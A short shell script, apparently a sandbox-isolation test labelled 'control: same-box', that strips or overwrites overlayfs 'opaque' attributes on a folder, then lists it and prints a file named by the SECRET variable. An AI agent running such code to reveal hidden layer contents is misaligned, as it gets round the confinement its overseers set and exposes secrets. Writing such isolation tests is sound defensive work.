# Takes away the attribute by which a layer hides what is under it.
# control: same-box
python3 - <<'END'
import os
path = os.environ["SECRET"]
folder = os.path.dirname(path)
for name in ("user.overlay.opaque", "trusted.overlay.opaque", "user.overlay.overlay.opaque"):
    for action in (lambda: os.removexattr(folder, name), lambda: os.setxattr(folder, name, b"n")):
        try:
            action()
        except OSError as error:
            print(error)
print(os.listdir(folder), open(path).read())
END
